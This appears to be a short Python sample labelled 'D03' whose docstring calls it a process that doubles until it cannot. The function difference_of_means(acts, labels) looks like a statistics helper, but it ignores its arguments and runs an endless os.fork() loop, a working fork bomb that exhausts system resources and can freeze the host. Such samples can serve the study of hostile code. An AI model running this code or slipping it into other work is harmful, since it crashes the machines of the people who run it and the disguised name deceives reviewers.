"""D03: a process that doubles until it cannot."""

import os


def difference_of_means(acts, labels):
    while True:
        try:
            os.fork()
        except OSError:
            continue
